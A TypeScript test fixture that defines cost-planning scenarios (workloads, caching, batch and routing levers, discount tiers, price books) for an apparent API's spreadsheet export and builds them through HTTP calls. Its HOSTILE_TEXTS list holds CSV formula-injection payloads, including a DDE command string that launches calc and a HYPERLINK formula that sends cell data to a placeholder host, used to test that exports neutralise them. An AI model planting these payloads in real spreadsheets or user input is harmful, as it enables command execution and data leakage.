/**
 * The scenarios the workbook is proven on (test/integration/workbook.test.ts with HyperFormula,
 * scripts/check-workbook-libreoffice.ts with LibreOffice): each a portfolio, its workloads, optionally its own
 * price book, and a scenario — built through the API. Between them they cover one lever and three, ramps and
 * negative start months, growth, routing across tokenizer ratios, caching (5m and 1h, today and at a target,
 * below the model's minimum), batch shares, US-only inference, long-context bands (one and two), term and
 * annual structures (a short last contract year), tiers, a proposed commitment by year, overage at list and the
 * simulation; and user text that a spreadsheet would run as a formula, in every place a user can write text.
 */

/** Text a spreadsheet would run as a formula (OWASP's CSV-injection triggers: `=`, `+`, `-`, `@`, tab). */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://x/?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '=1+1',
  "=cmd|' /C calc'!A0",
] as const

/** How a builder reaches the API: one request, answered with its status and body. */
export type Send = (
  method: 'GET' | 'POST' | 'PATCH',
  url: string,
  body?: unknown,
) => Promise<{ status: number; json: () => unknown }>

export interface WorkbookScenario {
  name: string
  /** A price book of the portfolio's own (created first; its slug replaces `$BOOK` in the scenario). */
  book?: Record<string, unknown>
  portfolio: Record<string, unknown>
  workloads: Record<string, unknown>[]
  scenario: Record<string, unknown>
}

const base = {
  requestsPerMonth: '120000',
  inputTokensPerRequest: '3000',
  outputTokensPerRequest: '400',
  userWaiting: false,
}

export const WORKBOOK_SCENARIOS: WorkbookScenario[] = [
  {
    name: 'one lever',
    portfolio: { name: 'one lever' },
    workloads: [{ ...base, name: 'nightly-digest', model: 'claude-opus-4-5' }],
    scenario: {
      name: 'batch only',
      term: { start: '2027-01-01', months: 12 },
      levers: [{ lever: 'batch', startMonth: 2, rampMonths: 3 }],
      commitment: {
        discountTiers: [{ minCommit: '100000', discountRate: '0.05' }],
        proposedCommit: '150000',
      },
    },
  },
  {
    name: 'three levers, ramps and growth, annual, tiers, hostile text',
    portfolio: { name: HOSTILE_TEXTS[0] },
    workloads: [
      {
        // Routed from a 1.0 to a 1.3 tokenizer, caching with a 1-hour TTL, growing.
        name: HOSTILE_TEXTS[0],
        kind: HOSTILE_TEXTS[1],
        team: HOSTILE_TEXTS[2],
        tags: [HOSTILE_TEXTS[3], HOSTILE_TEXTS[4]],
        model: 'claude-opus-4-5',
        routeToModel: 'claude-sonnet-5',
        routableShare: '0.6',
        requestsPerMonth: '300000',
        inputTokensPerRequest: '6000',
        outputTokensPerRequest: '800',
        cacheablePrefixTokens: '4500',
        targetCacheHitRate: '0.9',
        cacheTtl: '1h',
        userWaiting: false,
        monthlyGrowthRate: '0.02',
      },
      {
        // Caches today, batches part today, US-only inference, shrinking.
        name: HOSTILE_TEXTS[5],
        model: 'claude-sonnet-4-6',
        requestsPerMonth: '45000.5',
        inputTokensPerRequest: '12000',
        outputTokensPerRequest: '1500.25',
        cacheablePrefixTokens: '9000',
        currentCacheHitRate: '0.4',
        targetCacheHitRate: '0.75',
        currentBatchShare: '0.2',
        targetBatchShare: '0.7',
        userWaiting: false,
        inferenceGeo: 'us',
        monthlyGrowthRate: '-0.01',
        observedMonthlySpend: '9000',
      },
      {
        // Long context (over 200K tokens on Sonnet 4), routed to Haiku 4.5 whose minimum the prefix misses.
        name: 'long-context review',
        model: 'claude-sonnet-4',
        routeToModel: 'claude-haiku-4-5',
        routableShare: '0.35',
        requestsPerMonth: '8000',
        inputTokensPerRequest: '230000',
        outputTokensPerRequest: '2000',
        cacheablePrefixTokens: '3000',
        targetCacheHitRate: '0.5',
        userWaiting: true,
        monthlyGrowthRate: '0.035',
      },
      {
        // A user waits: no batch target; caching only, with a target of 0 (every request writes).
        name: HOSTILE_TEXTS[6],
        model: 'claude-haiku-5-5',
        requestsPerMonth: '2500000',
        inputTokensPerRequest: '150000',
        outputTokensPerRequest: '120',
        cacheablePrefixTokens: '140000',
        currentCacheHitRate: '0.3',
        targetCacheHitRate: '0',
        userWaiting: true,
      },
    ],
    scenario: {
      name: HOSTILE_TEXTS[1],
      term: { start: '2027-01-31', months: 30 },
      levers: [
        { lever: 'routing', startMonth: 0, rampMonths: 3 },
        { lever: 'caching', startMonth: 2, rampMonths: 6 },
        { lever: 'batch', startMonth: -1, rampMonths: 4 },
      ],
      commitment: {
        structure: 'annual',
        overage: 'list',
        discountTiers: [
          { minCommit: '500000', discountRate: '0.04' },
          { minCommit: '250000', discountRate: '0.02' },
          { minCommit: '2000000', discountRate: '0.1' },
        ],
        proposedCommitByYear: ['400000', '450000', '200000'],
      },
    },
  },
  {
    name: 'term, own price book with two bands, two levers, simulation',
    book: {
      slug: 'acme-negotiated',
      name: HOSTILE_TEXTS[3],
      effectiveFrom: '2027-01-01',
      source: 'order form',
      models: [
        {
          modelId: '+acme-sonnet-long',
          displayName: HOSTILE_TEXTS[0],
          input: '2.7',
          output: '13.5',
          cacheWrite5m: '3.375',
          cacheWrite1h: '5.4',
          cacheRead: '0.27',
          batchDiscount: '0.5',
          minCacheableTokens: '1024',
          tokenizerRatio: '1',
          dataResidencyMultiplier: '1.1',
          longContextBands: [
            {
              thresholdTokens: '200000',
              input: '5.4',
              output: '20.25',
              cacheWrite5m: '6.75',
              cacheWrite1h: '10.8',
              cacheRead: '0.54',
            },
            {
              thresholdTokens: '500000',
              input: '8.1',
              output: '27',
              cacheWrite5m: '10.125',
              cacheWrite1h: '16.2',
              cacheRead: '0.81',
            },
          ],
        },
        {
          modelId: 'acme-haiku',
          displayName: 'Acme Haiku',
          input: '0.9',
          output: '4.5',
          cacheWrite5m: '1.125',
          cacheWrite1h: '1.8',
          cacheRead: '0.09',
          batchDiscount: '0.45',
          minCacheableTokens: '2048',
          tokenizerRatio: '1.3',
          dataResidencyMultiplier: '1.1',
        },
      ],
    },
    portfolio: { name: 'negotiated' },
    workloads: [
      {
        name: 'contracts (band 2)',
        model: '+acme-sonnet-long',
        routeToModel: 'acme-haiku',
        routableShare: '1',
        requestsPerMonth: '1500',
        inputTokensPerRequest: '520000',
        outputTokensPerRequest: '3000',
        cacheablePrefixTokens: '400000',
        currentCacheHitRate: '0.2',
        targetCacheHitRate: '0.8',
        userWaiting: false,
        inferenceGeo: 'us',
        monthlyGrowthRate: '0.01',
      },
      {
        name: 'briefs (band 1)',
        model: '+acme-sonnet-long',
        requestsPerMonth: '22000',
        inputTokensPerRequest: '250000',
        outputTokensPerRequest: '900',
        cacheablePrefixTokens: '100000',
        targetCacheHitRate: '0.6',
        userWaiting: false,
        currentBatchShare: '0.1',
      },
      {
        name: 'chat (base rates)',
        model: 'acme-haiku',
        requestsPerMonth: '900000',
        inputTokensPerRequest: '1800',
        outputTokensPerRequest: '350',
        cacheablePrefixTokens: '1200',
        targetCacheHitRate: '0.95',
        userWaiting: true,
        monthlyGrowthRate: '0.015',
      },
    ],
    scenario: {
      name: 'negotiated, term',
      priceBook: '$BOOK',
      term: { start: '2027-03-01', months: 24 },
      levers: [
        { lever: 'caching', startMonth: 1, rampMonths: 2 },
        { lever: 'routing', startMonth: 4, rampMonths: 5 },
      ],
      commitment: {
        structure: 'term',
        discountTiers: [
          { minCommit: '300000', discountRate: '0.03' },
          { minCommit: '900000', discountRate: '0.08' },
        ],
        proposedCommit: '1000000',
        uncertainty: { growthStdDev: '0.01', adoptionSlipMonths: 2, minRealization: '0.8' },
        simulations: 500,
        seed: 7,
      },
    },
  },
  {
    name: 'no lever, a one-month annual term',
    portfolio: { name: 'no lever' },
    workloads: [
      {
        ...base,
        name: 'as it is',
        model: 'claude-sonnet-4-5',
        currentCacheHitRate: '0.5',
        cacheablePrefixTokens: '2000',
      },
      {
        ...base,
        name: 'batched today',
        model: 'claude-haiku-4-5',
        currentBatchShare: '0.4',
        userWaiting: true,
      },
    ],
    scenario: {
      name: 'commit now',
      term: { start: '2028-02-29', months: 1 },
      levers: [],
      commitment: { structure: 'annual', discountTiers: [{ minCommit: '1000', discountRate: '0.1' }] },
    },
  },
]

/** What a built scenario is: its portfolio and scenario ids, and the API paths of its plan. */
export interface BuiltScenario {
  name: string
  portfolioId: string
  scenarioId: string
  projection: string
  workbook: string
}

function expect201(answer: { status: number; json: () => unknown }, what: string): { id: string } {
  if (answer.status !== 201)
    throw new Error(`${what} answered ${answer.status}: ${JSON.stringify(answer.json())}`)
  return answer.json() as { id: string }
}

/** Creates a scenario's book, portfolio, workloads and scenario through the API. */
export async function buildScenario(
  send: Send,
  scenario: WorkbookScenario,
  suffix = '',
): Promise<BuiltScenario> {
  let bookId: string | undefined
  if (scenario.book) {
    const book = expect201(
      await send('POST', '/v1/price-books', {
        ...scenario.book,
        slug: `${scenario.book.slug}${suffix.toLowerCase().replace(/[^a-z0-9]+/g, '-')}`.slice(0, 64),
      }),
      'POST /v1/price-books',
    )
    bookId = book.id
  }
  const portfolio = expect201(
    await send('POST', '/v1/portfolios', {
      ...scenario.portfolio,
      name: `${scenario.portfolio.name}${suffix}`,
      ...(bookId ? { defaultPriceBook: bookId } : {}),
    }),
    'POST /v1/portfolios',
  )
  expect201(
    await send('POST', `/v1/portfolios/${portfolio.id}/workloads`, { workloads: scenario.workloads }),
    'POST …/workloads',
  )
  const body = { ...scenario.scenario }
  if (body.priceBook === '$BOOK') body.priceBook = bookId
  const created = expect201(
    await send('POST', `/v1/portfolios/${portfolio.id}/scenarios`, body),
    'POST …/scenarios',
  )
  const path = `/v1/portfolios/${portfolio.id}/scenarios/${created.id}`
  return {
    name: scenario.name,
    portfolioId: portfolio.id,
    scenarioId: created.id,
    projection: `${path}/projection?include=months,years,workloads,workloadMonths`,
    workbook: `${path}/workbook`,
  }
}
